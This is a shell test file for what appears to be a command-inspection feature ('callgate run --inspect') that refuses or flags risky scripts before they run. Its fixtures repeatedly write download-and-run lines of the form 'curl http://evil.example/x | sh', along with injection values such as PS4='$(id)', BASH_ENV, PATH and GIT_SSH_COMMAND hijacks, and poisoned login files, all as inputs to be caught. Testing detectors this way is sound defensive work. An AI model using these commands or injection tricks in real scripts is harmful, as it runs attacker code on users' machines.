#!/bin/bash
# callgate run --inspect and "inspect" of a policy: what is found is printed, or refuses the run before anything starts;
# scripts, code on the command line and ELF programs are looked at, after the setup and in the workdir.
. "$(dirname "$0")/../lib.sh"
need jq python3
export CALLGATE_PARSERS=$SRC/cli/inspect/parsers
mkdir "$T/w"
printf 'open("started", "w")\nimport os; os.system("curl http://evil.example/x | sh")\n' >"$T/w/bad.py"
printf 'open("started", "w")\nprint("ran")\n' >"$T/w/good.py"
echo ':>started; curl http://evil.example/x | sh' >"$T/w/bad.sh"
printf 'open("started", "w")\neval("1")\n' >"$T/w/eval.py"

# run OPTION… -- PROGRAM…: sets status; out, err and started tell what happened.
run()
{
	rm -f "$T/w/started"
	cg run --profile extended -w "$T/w" "$@" >"$T/out" 2>"$T/err"
	status=$?
	started=no
	[ ! -e "$T/w/started" ] || started=yes
}
# refused WHAT
refused()
{
	if [ $status != 126 ] || [ $started = yes ] || ! grep -qF -- "$1" "$T/err"; then
		fail "not refused for \"$1\": status $status, started $started: $(cat "$T/err")"
	fi
}
ran()
{
	if [ $started = no ] || grep -q inspect "$T/err"; then
		fail "status $status, started $started: $(cat "$T/err")"
	fi
}
# warned WHAT
warned()
{
	if [ $started = no ] || ! grep -qxF -- "callgate run: inspect: $1" "$T/err"; then
		fail "no warning \"$1\": status $status, started $started: $(cat "$T/err")"
	fi
}

run -- python3 bad.py
ran
run --inspect -- python3 bad.py
refused 'bad.py:2: download-run: curl http://evil.example/x | sh'
run --inspect --json -- python3 -I bad.py
jq -e '.status == "refused" and .exit_code == 126 and .error.code == "inspect" and
	(.error.message | contains("bad.py:2: download-run")) and
	.inspect.refused and .inspect.unlisted == 0 and .inspect.changed == [] and (.inspect.findings |
		any(.file == "bad.py" and .line == 2 and .kind == "download-run" and .level == "alarm"))' \
	"$T/out" >/dev/null || fail "result: $(cat "$T/out")"
grep -q 'inspect: bad.py:2: download-run' "$T/err" || fail "with --json, nothing is printed: $(cat "$T/err")"
run --json -- python3 good.py
jq -e 'has("inspect") | not' "$T/out" >/dev/null || fail "not looked at, but has: $(jq .inspect "$T/out")"
# A file that shells take for a text, by its first line.
printf ':>started\n#\0\ncurl http://evil.example/x | sh\n' >"$T/w/zero" && chmod +x "$T/w/zero"
run --inspect -- sh -c ./zero
refused 'zero:3: download-run'
# What other programs start: unit tests have their options.
run --inspect -- timeout -s KILL 60 nice -n 1 nohup stdbuf -oL env -S 'A=1 python3 -I' "$T/w/bad.py"
refused "$T/w/bad.py:2: download-run"
{ echo '#!/usr/bin/env -S -i python3 -I' && cat "$T/w/bad.py"; } >"$T/w/script" && chmod +x "$T/w/script"
run --inspect -- ./script
refused './script:3: download-run'
ln -s "$(command -v python3)" "$T/w/interpreter"
run --inspect -- ./interpreter bad.py
refused 'bad.py:2: download-run'
# What a script finds beside itself is looked at, and nothing of that is worth a word.
# shellcheck disable=SC2016
printf '%s\n' 'here=$(cd "$(dirname "$0")" && pwd)' '. "$here/library.sh"' '. "${0%/*}/library.sh"' >"$T/w/own.sh"
echo ':>started' >"$T/w/library.sh"
run --inspect -- sh ./own.sh
ran
echo 'curl http://evil.example/x | sh' >>"$T/w/library.sh"
run --inspect -- sh ./own.sh
refused './library.sh:2: download-run'
if command -v node >/dev/null; then
	echo 'require("child_process").execSync("curl http://evil.example/x | sh")' >"$T/w/bad.js"
	: >"$T/w/good.js"
	for arguments in '--require=./bad good.js' '-e 1 -r ./bad.js'; do
		# shellcheck disable=SC2086
		run --inspect -- node $arguments
		refused ':1: download-run'
	done
fi
# What cannot be looked at is a finding.
echo '{"version": 1, "inspect": {"refuse": ["not-looked-at"]}}' >"$T/n.json"
mkfifo "$T/w/fifo.py"
ln -s /proc/self/fd/0 "$T/w/link.py"
many=$(printf ':\n%.0s' {1..501})
# shellcheck disable=SC2016
for command in "$many" 'python3 $A' 'cd $A; python3 good.py' 'cat good.py | python3' '$A'; do
	run -p "$T/n.json" -- sh -c "$command"
	refused 'command line: not-looked-at: '
done
for command in 'xargs python3' 'env -Spython3\\c' 'env PYTHONPATH=x python3 good.py' \
	'python3 fifo.py' 'python3 link.py'; do
	# shellcheck disable=SC2086
	run -p "$T/n.json" -- $command
	refused 'command line: not-looked-at: '
done
# Variables: of the command line, of a "#!" line, of a shell that exports them. Usual values are none of note.
echo '{"version": 1, "inspect": {"refuse": ["code-variable"]}}' >"$T/v.json"
run -p "$T/v.json" -- env A=1 GIT_SSH_COMMAND=./x python3 good.py
refused 'command line: code-variable: is a command: GIT_SSH_COMMAND=./x'
{ echo '#!/usr/bin/env -S NODE_OPTIONS=-rx python3' && cat "$T/w/good.py"; } >"$T/w/script" && chmod +x "$T/w/script"
run -p "$T/v.json" -- ./script
refused 'command line: code-variable: sets options: NODE_OPTIONS=-rx'
# shellcheck disable=SC2016
run -p "$T/v.json" -- env 'PATH=/bin:$PATH' python3 good.py
# shellcheck disable=SC2016
refused 'command line: code-variable: loads code: PATH=/bin:$PATH'
run -p "$T/v.json" -- sh -c "PS4='\$(id)' bash -x good.py"
refused "command line:1: code-variable: is a command: PS4=\$(id)"
echo 'python3 bad.py' >"$T/w/rc"
run --inspect -- sh -c 'export A=1 BASH_ENV=rc; bash -c :'
refused 'bad.py:2: download-run'
run --inspect -- env PAGER=cat HOME=/tmp PATH=/usr/bin:/bin python3 good.py
ran
run --inspect -- env PAGER=./x python3 good.py
warned 'command line: code-variable: is a command: PAGER=./x'
run --inspect -- perl good.py
grep -q 'good.py: not-parsed: no parser for this kind of file' "$T/err" || fail "perl: $(cat "$T/err")"
run --inspect -- bash -c ': >started; curl http://evil.example/x | sh'
refused 'command line:1: download-run'
# What code of a shell starts: in each directory that it may be in, and from a here-document.
mkdir "$T/w/below" && cp "$T/w/bad.py" "$T/w/below/b.py"
run --inspect -- sh -c 'A=1 timeout 60 python3 -I bad.py'
refused 'bad.py:2: download-run'
cp "$T/w/good.py" "$T/w/b.py"
# shellcheck disable=SC2016
run --inspect -- bash -c 'A=1 command cd below && if true; then echo $(python3 b.py); fi'
refused 'below/b.py:2: download-run'
run --inspect -- bash -c 'python3 - <<"E"
import os; os.system("curl http://evil.example/x | sh")
E'
refused 'command line:1: download-run'
# shellcheck disable=SC2016
run --inspect -- bash -c 'A=$HOME; B=$A python3 good.py; export PATH=/usr/bin:$PATH; x=(./1 ./2); ls *.py | wc -l'
ran
# What script files start, in the directories where it may be; scripts in a circle; what cannot be looked at.
mkdir "$T/w/s"
echo 'python3 bad.py' >"$T/w/s/plain.sh"
printf '#!/bin/sh\n\ncd below && python3 b.py\n' >"$T/w/s/first" && chmod +x "$T/w/s/first"
# shellcheck disable=SC2016
echo 'if :; then ../s/first; fi; sh "$0"' >"$T/w/s/second.sh"
printf '. s/circle.sh\nsh s/circle.sh\ns/circle.sh\ncd .; sh ./s/circle.sh\npython3 bad.py' >"$T/w/s/circle.sh"
chmod +x "$T/w/s/circle.sh"
# shellcheck disable=SC2016
printf ':\npython3 "$1"\n' >"$T/w/s/arg.sh"
echo 'env env env env env env env env sh s/plain.sh' >"$T/w/s/deep.sh"
for i in {1..65}; do
	echo "$i" >"$T/w/s/$i"
	echo "perl s/$i"
done >"$T/w/s/many.sh"
for command in 'sh s/plain.sh' '. s/plain.sh' 'bash --rcfile s/plain.sh -ic :'; do
	# shellcheck disable=SC2086
	run --inspect -- bash -c "$command"
	refused 'bad.py:2: download-run'
done
run --inspect -- s/first
refused 'below/b.py:2: download-run'
run --inspect -- env -C below sh ../s/second.sh
refused 'b.py:2: download-run'
run --inspect -- s/circle.sh
refused 'bad.py:2: download-run'
grep -q not-looked-at "$T/err" && fail "a circle: $(cat "$T/err")"
run -p "$T/n.json" -- sh s/arg.sh bad.py
refused 's/arg.sh:2: not-looked-at: '
run -p "$T/n.json" -- sh s/deep.sh
refused 's/deep.sh:1: not-looked-at: sh: more than 8 programs that start one another'
run -p "$T/n.json" -- sh s/many.sh
refused 'not-looked-at: more than 64 files'
# That is told also if an interpreter of the system, of which nothing else is told, is the first that is too much.
{ echo ':>started; exit' && head -n 62 "$T/w/s/many.sh" && echo '/usr/bin/env perl s/63'; } >"$T/w/s/limit.sh"
run --inspect -- sh s/limit.sh
warned 's/limit.sh:64: not-looked-at: more than 64 files'
# A script is looked at once more for another PATH or HOME.
mkdir "$T/w/evil" "$T/w/home"
echo tool >"$T/w/s/helper" && echo 'bash -lc :' >"$T/w/s/login" && chmod +x "$T/w/s/helper" "$T/w/s/login"
cp "$T/w/bad.sh" "$T/w/evil/tool" && chmod +x "$T/w/evil/tool"
cp "$T/w/bad.sh" "$T/w/home/.bash_profile"
# shellcheck disable=SC2016
run --inspect -- sh -c 's/helper; export PATH=evil:$PATH; s/helper'
refused 'evil/tool:1: download-run'
run --inspect -- sh -c 's/login; env HOME=home s/login'
refused 'home/.bash_profile:1: download-run'
# What only is named as an interpreter, or as a file of the system, is none.
# shellcheck disable=SC2016
printf '#!/bin/sh\n:>started; eval "$1"\n' >"$T/w/python" && chmod +x "$T/w/python"
run --inspect -- ./python good.py
# shellcheck disable=SC2016
warned './python:2: dynamic: eval $1'
for name in /usr/../none/x /libevil/x; do
	run -p "$T/n.json" -- sh -c "$name"
	refused "command line: not-looked-at: $name: no regular file that can be read"
done
run --inspect -- python3 good.py
ran
[ "$(cat "$T/out")" = ran ] || fail "printed: $(cat "$T/out")"
run --inspect -- python3 eval.py
warned "eval.py:2: dynamic: eval('1')"
run --inspect -q -- python3 eval.py
ran
{ printf 'open("started", "w")\n' && printf 'eval("%s")\n' {1..350}; } >"$T/w/many.py"
run --inspect -- python3 many.py
warned 'many.py: and 330 more'
run --inspect -- python3 absent.py
[ $status = 2 ] || fail "a script that is not there: status $status: $(cat "$T/err")"

# A program, and a startup file of a shell, that is not there: it may be by the time it is run.
# shellcheck disable=SC2016
run -p "$T/n.json" -- sh -c './made; bash -lc :; HOME=$A bash -ic :; export PATH=$A:/opt:$PATH; A=1 /usr/bin/none'
for what in './made: no regular file that can be read' '/.bash_profile: not there' '/.bashrc: HOME is not known' \
	'what PATH starts or loads'; do
	refused "$what"
done
[ "$(wc -l <"$T/err")" = 5 ] || fail "not there: $(cat "$T/err")"
# Login shells by their name, and HOME as passwd(5) has it.
run -p "$T/n.json" -- bash -c 'exec -l bash -c :'
refused '/.bash_profile: not there'
run -p "$T/n.json" -- env -i bash -lc :
refused '/.bash_profile: HOME is not known'
run -p "$T/n.json" -- bash -c 'enable -f ./x.so x; git --exec-path=./x x'
refused 'what enable starts or loads'
refused 'what git starts or loads'
run -p "$T/n.json" -- ./made
refused 'command line: not-looked-at: ./made: no regular file that can be read'
# Those that are there are looked at, in HOME as it will be, which is the workdir.
cp "$T/w/bad.sh" "$T/w/.bashrc"
run --inspect -- bash -ic :
refused '.bashrc:1: download-run'
run --inspect --env BASH_ENV=.bashrc -- bash -c :
refused '.bashrc:1: download-run'
mv "$T/w/.bashrc" "$T/w/.profile"
run --inspect -- sh -c 'bash -ic ":>started"; timeout 60 bash --login -c :'
refused '.profile:1: download-run'
# Programs without a slash, where PATH leads to them: that of the program, and that which a script sets.
mkdir "$T/w/bin"
mv "$T/w/.profile" "$T/w/bin/own" && chmod +x "$T/w/bin/own"
run --inspect --env PATH=bin:/usr/bin:/bin -- sh -c 'true && own'
refused 'own:1: download-run'
echo 'A=1 own' >"$T/w/own.sh"
# shellcheck disable=SC2016
run --inspect -- sh -c 'export A=2 PATH=bin:$PATH; sh own.sh'
refused 'bin/own:1: download-run'
# Of a long command not all words are told.
python3 -c 'print("python3 -W ignore -W error -W ignore bad.py " + "x" * 31000)' >"$T/w/long.sh"
run -p "$T/n.json" -- sh long.sh
refused 'long.sh:1: not-looked-at: the further words of a long command'
# Each occurrence of an option with code, and each command line.
for command in "git -c core.pager=id -c 'alias.x=!curl http://evil.example/x | sh' x" \
	"find good.py -exec id ';' -o -exec sh -c 'curl http://evil.example/x | sh' ';'"; do
	run --inspect -- sh -c "$command"
	refused 'command line:1: download-run'
done

# A file that is another one when it runs is told, also if its size and times are the same, by each of its names. So is
# one that was made where a shell runs it first, or where a script has programs looked for.
cat >"$T/w/changes.py" <<'END2'
import os
then = os.stat("good.py")
open("new.py", "w").write(open("good.py").read())
os.utime("new.py", ns=(then.st_atime_ns, then.st_mtime_ns))
os.rename("new.py", "good.py")
os.remove("soft.py")
os.symlink("bad.py", "soft.py")
os.remove("hard.py")
os.link("changes.py", "hard.py")
open(".bash_profile", "w").close()
open("bin/new", "w").close()
END2
cp "$T/w/good.py" "$T/w/kept.py"
ln -s kept.py "$T/w/soft.py"
ln "$T/w/kept.py" "$T/w/hard.py"
# shellcheck disable=SC2016
run --inspect -- bash -lc 'python3 kept.py; python3 soft.py; python3 hard.py
	python3 changes.py; PATH=bin:$PATH; new; exec python3 good.py'
grep 'after it was' "$T/err" | sort >"$T/told"
{
	printf 'callgate run: inspect: %s: was made after it was looked for\n' "$T/w/.bash_profile" bin/new
	printf 'callgate run: inspect: %s: was changed after it was looked at\n' {changes,good,hard,kept,soft}.py
} | sort | diff - "$T/told" || fail "changed: $(cat "$T/err")"
rm "$T/w/.bash_profile"
echo 'print(file=open("good.py", "a"))' >"$T/w/writes.py"
cp "$T/w/good.py" "$T/w/gone.py"
run --inspect --json -- bash -c 'python3 good.py; python3 writes.py; python3 gone.py; rm gone.py'
jq -e '.inspect.changed == ["good.py"] and .inspect.removed == ["gone.py"] and .inspect.added == [] and
	(.inspect.refused | not)' "$T/out" >/dev/null ||
	fail "changed, of the result: $(jq -c .inspect "$T/out")"

# What the setup has made is looked at after it.
run --inspect --setup 'cp bad.py made.py' -- python3 made.py
refused 'made.py:2: download-run'

# "inspect" of the policy, without an option. Files add up.
echo '{"version": 1, "inspect": {"refuse": ["dynamic"]}}' >"$T/p.json"
echo '{"version": 1, "inspect": {"warn": ["import"]}}' >"$T/q.json"
run -p "$T/p.json" -p "$T/q.json" -- python3 eval.py
refused "eval.py:2: dynamic: eval('1')"
run -p "$T/p.json" -p "$T/q.json" -- python3 bad.py
warned 'bad.py:2: import: os'
cg show --profile extended -p "$T/p.json" >"$T/out"
jq -e '.inspect.refuse == ["dynamic"]' "$T/out" >/dev/null || fail "show: $(cat "$T/out")"

# "modules": what is neither listed nor the language's own, nor beside the script, is an alarm.
echo '{"version": 1, "inspect": {"modules": ["numpy", "yaml"]}}' >"$T/m.json"
printf 'import os, own, own.part, package.part\nfrom numpy.linalg import norm\n' >"$T/w/listed.py"
printf "part = 1\n" >"$T/w/own.py"
mkdir "$T/w/package" && touch "$T/w/package/__init__.py"
printf 'import os\nimport requests\n' >"$T/w/unlisted.py"
run -p "$T/m.json" -- python3 listed.py
[ $status = 1 ] || fail "listed modules: status $status: $(cat "$T/err")" # numpy is not there, or own.py is wrong
grep -q 'inspect:' "$T/err" && fail "listed modules: $(cat "$T/err")"
run -p "$T/m.json" -- python3 unlisted.py
refused 'unlisted.py:2: module: requests'
run -p "$T/m.json" -- python3 -c 'import requests'
refused 'command line:1: module: requests'
cg show --profile extended -p "$T/m.json" >"$T/out"
jq -e '.inspect.modules == ["numpy", "yaml"]' "$T/out" >/dev/null || fail "show: $(cat "$T/out")"

# Modules, and programs that come on standard input. What cannot be looked at is told.
run --inspect -- python3 -m bad
refused 'bad.py:2: download-run'
mkdir "$T/w/package/sub" && cp "$T/w/bad.py" "$T/w/package/sub/__main__.py"
run --inspect -- python3 -Im package.sub
refused 'package/sub/__main__.py:2: download-run'
# A package of that name comes before the file, and a directory is a script, too.
mkdir -p "$T/w/good/sub"
cp "$T/w/bad.py" "$T/w/good/__main__.py"
cp "$T/w/good.py" "$T/w/good/sub/__init__.py"
run --inspect -- python3 -m good
refused 'good/__main__.py:2: download-run'
run --inspect -- python3 good
refused 'good/__main__.py:2: download-run'
mv "$T/w/good/__main__.py" "$T/w/good/__init__.py"
run --inspect -- python3 -m good.sub
refused 'good/__init__.py:2: download-run'
rm -r "$T/w/good"
run --inspect -- python3 -m this
grep -qx 'callgate run: inspect: command line: not-looked-at: module this: not in the working directory' "$T/err" ||
	fail "a module: $(cat "$T/err")"
# given INPUT COMMAND…: as run, with a standard input
given()
{
	local input=$1
	shift
	rm -f "$T/w/started"
	timeout -k 5 "$LIVE_TIMEOUT" "$CALLGATE" run --inspect --profile extended -w "$T/w" -i -- "$@" <"$input" \
		>"$T/out" 2>"$T/err"
	status=$?
	started=no
	[ ! -e "$T/w/started" ] || started=yes
}
given "$T/w/bad.py" env A=1 python3
refused 'standard input:2: download-run'
given "$T/w/bad.sh" sh -s x
refused 'standard input:1: download-run'
given "$T/w/good.py" python3 -
ran
given <(cat "$T/w/good.py") python3 -
grep -q 'not-looked-at: the program is read from standard input, which is no file' "$T/err" || started=no
[ $started = yes ] || fail "a pipe: $(cat "$T/err")"

if command -v cc >/dev/null; then
	echo 'int main(void) { return 0; }' | cc -z execstack -o "$T/w/elf" -x c - 2>/dev/null
	run --inspect -x "$T/w/elf" -- ./elf
	refused './elf: executable-stack'
fi
